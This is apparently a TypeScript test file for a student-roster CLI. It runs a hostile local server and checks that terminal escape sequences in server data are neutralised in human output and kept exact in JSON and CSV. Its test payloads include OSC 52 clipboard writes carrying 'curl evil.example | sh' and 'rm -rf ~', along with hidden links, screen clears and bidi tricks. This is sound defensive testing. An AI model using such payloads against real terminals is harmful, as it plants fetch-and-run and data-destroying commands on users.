// A hostile server on 127.0.0.1 puts terminal escape sequences everywhere a server's text can reach a
// person: the attendance client label, OneRoster records, error messages, response headers, debug traces,
// the "served more than once" warning, an access token. The built CLI runs with stdout a pipe (and, where
// the format depends on it, on a pseudo-terminal): no raw control, bidi or zero-width character ever
// leaves it in a human format, and the data formats (--json, --ndjson, --csv to a pipe) keep every value
// exact.
import { execFile, spawnSync } from 'node:child_process';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cliEnv, ROSTER_BIN, runCli } from '../helpers/cli.js';
import { tempDir } from '../helpers/context.js';
import {
  type ScriptedAnswer,
  type ScriptedRequest,
  type ScriptedServer,
  startScriptedServer,
} from '../helpers/scripted-server.js';

const ESC = '\u001b';
/** What a terminal would obey: a clipboard write, a screen clear, a hidden link, a title, C1 CSI, CR, RLO, ZWSP. */
const HOSTILE = [
  `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`,
  `${ESC}[2J${ESC}[H`,
  `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
  `${ESC}]0;pwned\u0007`,
  '\u009b31m',
  'ok\rFAKE',
  '\u202etxt.exe',
  'a\u200bb',
].join(' ');

/** Raw bytes no human format may contain: C0 but tab and line feed, DEL, C1, bidi controls, zero-width. */
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]/;
const expectClean = (text: string) => expect(text).not.toMatch(RAW);

const TOKEN = 'tok-abc.DEF_123~+/=';
type Mode = 'ok' | 'refused' | 'failing' | 'repeats' | 'bad-token';
let mode: Mode = 'ok';
let server: ScriptedServer;

const student = (id: string, givenName = HOSTILE) => ({
  sourcedId: id,
  givenName,
  familyName: 'Doe',
  status: 'active',
});

function answer(request: ScriptedRequest): ScriptedAnswer {
  if (request.path === '/v1/oauth/token' || request.path.endsWith('/token')) {
    return mode === 'bad-token'
      ? {
          body: { access_token: `abc${ESC}]52;c;cm0gLXJmIH4=\u0007`, token_type: 'bearer', expires_in: 3600 },
        }
      : { body: { access_token: TOKEN, token_type: 'bearer', expires_in: 3600 } };
  }
  // A header the debug trace shows, with a C1 CSI byte and the UTF-8 bytes of U+202E (read as latin1).
  const headers = { 'www-authenticate': Buffer.from('Bearer realm="\u009b2J \u00e2\u0080\u00ae"', 'latin1') };
  if (request.path === '/v1/attendance/status') {
    if (mode === 'failing') return { status: 403, headers, body: { message: `not enabled for ${HOSTILE}` } };
    return { headers, body: { success: mode !== 'refused', clientLabel: HOSTILE } };
  }
  if (request.path === '/v1/ims/oneroster/v1p1/students') {
    const offset = Number(request.query.get('offset') ?? 0);
    if (mode === 'repeats') {
      // Page 2 serves page 1's last record again: the pager writes it once and warns, naming its id.
      const pages: Record<number, unknown[]> = {
        0: [student('s-1'), student(`s-2${HOSTILE}`)],
        2: [student(`s-2${HOSTILE}`), student('s-3')],
      };
      return { headers, body: { users: pages[offset] ?? [] } };
    }
    return {
      headers: { ...headers, 'x-total-count': '2' },
      body: { users: offset === 0 ? [student('s-1'), student('s-2')] : [] },
    };
  }
  return { status: 404, body: { message: `no ${HOSTILE}` } };
}

beforeAll(async () => {
  server = await startScriptedServer((request) => answer(request));
});
afterAll(() => server.close());

const env = () => ({
  ROSTER_BASE_URL: server.baseUrl,
  ROSTER_CLIENT_ID: 'client-1',
  ROSTER_CLIENT_SECRET: 'secret-value-1',
});
const roster = (args: string[], home = tempDir()) => runCli(args, home, { env: env() });

describe('escape sequences from the server never reach a terminal raw (stdout a pipe)', () => {
  it('attendance check: the client label is shown with visible escapes', async () => {
    mode = 'ok';
    const result = await roster(['attendance', 'check']);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('Token authentication works');
    // Visible, so the reader sees something was there.
    expect(result.stdout).toContain('\\u001b]52;c;');
    expect(result.stdout).toContain('ok FAKE'); // a CR in one line of text: a space
    expect(result.stdout).toContain('\\u202etxt.exe');
    expect(result.stdout).toContain('a\\u200bb');
    expect(result.stdout).toContain('\\u009b31m');
    expectClean(result.stdout);
    expectClean(result.stderr);
  });

  it('attendance check --json: the exact label, with escapes JSON already understands', async () => {
    mode = 'ok';
    const result = await roster(['attendance', 'check', '--json']);
    expect(result.code).toBe(0);
    expectClean(result.stdout);
    expect(JSON.parse(result.stdout).clientLabel).toBe(HOSTILE);
  });

  it('attendance check failures: success=false and a 403 message, under --debug (headers and bodies)', async () => {
    for (const failure of ['refused', 'failing'] as const) {
      mode = failure;
      const result = await roster(['attendance', 'check', '--debug']);
      expect(result.code).toBe(failure === 'refused' ? 1 : 3);
      expect(result.stdout).toBe('');
      expect(result.stderr).toMatch(/^Error: /m);
      expect(result.stderr).toContain('\\u001b]52;c;');
      // The trace shows the hostile header, its C1 byte made visible.
      expect(result.stderr).toContain('< www-authenticate: Bearer realm="\\u009b2J');
      expectClean(result.stderr);
    }
  });

  it('a OneRoster read as tab-separated text: records sanitised; --csv, --json and --ndjson exact', async () => {
    mode = 'ok';
    const tsv = await roster(['roster', 'students', '--debug']);
    expect(tsv.code).toBe(0);
    expect(tsv.stdout.split('\n')[0]).toBe('sourcedId\tgivenName\tfamilyName\tgrades\temail\tstatus');
    expect(tsv.stdout).toContain('\\u001b[2J');
    expectClean(tsv.stdout);
    expectClean(tsv.stderr);

    const json = await roster(['roster', 'students', '--json']);
    expectClean(json.stdout);
    expect(JSON.parse(json.stdout).map((r: { givenName: string }) => r.givenName)).toEqual([
      HOSTILE,
      HOSTILE,
    ]);

    const ndjson = await roster(['roster', 'students', '--ndjson']);
    expectClean(ndjson.stdout);
    const lines = ndjson.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines.map((r) => r.givenName)).toEqual([HOSTILE, HOSTILE]);

    // CSV cannot escape: to a file or pipe it carries the exact bytes (quoted: the value holds a CR).
    const csv = await roster(['roster', 'students', '--csv']);
    expect(csv.code).toBe(0);
    expect(csv.stdout).toContain(`"${HOSTILE.replace(/"/g, '""')}"`);
    expectClean(csv.stderr);
  });

  it('the "served more than once" warning names the ids with visible escapes', async () => {
    mode = 'repeats';
    const result = await roster(['roster', 'students', '--all', '--page-size', '2', '--concurrency', '1']);
    expect(result.code).toBe(0);
    expect(result.stderr).toMatch(/Warning: the server served 1 students more than once \(s-2/);
    expect(result.stderr).toContain('\\u001b]0;pwned\\u0007');
    expectClean(result.stderr);
    expectClean(result.stdout);
  });

  it('roster token: a token with control characters is refused, never printed or cached', async () => {
    mode = 'bad-token';
    const home = tempDir();
    const before = server.requests.length;
    const first = await roster(['token'], home);
    expect(first.code).toBe(1);
    expect(first.stdout).toBe('');
    expect(first.stderr).toMatch(/answered 200 but with an access_token that is not a printable token/);
    expectClean(first.stderr);
    const cache = join(home, '.cache', 'roster', 'tokens');
    expect(existsSync(cache) ? readdirSync(cache) : []).toEqual([]);
    const second = await roster(['token'], home);
    expect(second.code).toBe(1);
    expect(server.requests.length - before).toBe(2); // asked again: nothing was cached
  });

  it('roster token prints a b64token as it is', async () => {
    mode = 'ok';
    const result = await roster(['token']);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(`${TOKEN}\n`);
  });
});

// `script` (util-linux) runs the CLI on a pseudo-terminal, as a person at a terminal would.
const hasScript = spawnSync('script', ['--version']).status === 0;

describe.skipIf(!hasScript)('on a terminal (a pseudo-terminal)', () => {
  // Asynchronous: the hostile server answers from this very process.
  const onTerminal = async (args: string[]) => {
    const command = [process.execPath, ROSTER_BIN, ...args]
      .map((a) => `'${a.replace(/'/g, "'\\''")}'`)
      .join(' ');
    const run = promisify(execFile)('script', ['-q', '-e', '-c', command, '/dev/null'], {
      env: { ...cliEnv(tempDir(), env()), COLUMNS: '200' },
      encoding: 'utf8',
    });
    run.child.stdin?.end();
    return (await run).stdout.replace(/\r\n/g, '\n'); // the terminal's own line endings
  };

  it('a table and --csv shown on a terminal carry visible escapes, not the sequences', async () => {
    mode = 'ok';
    const table = await onTerminal(['roster', 'students']);
    expect(table).toContain('sourcedId');
    expect(table).toContain('\\u001b]52');
    expectClean(table);
    const csv = await onTerminal(['roster', 'students', '--csv']);
    expect(csv).toContain('sourcedId');
    expect(csv).toContain('\\u001b[2J\\u001b[H');
    expect(csv).toContain('ok\\rFAKE');
    expectClean(csv);
    const check = await onTerminal(['attendance', 'check']);
    expect(check).toContain('✓ Token authentication works');
    expectClean(check);
  });
});
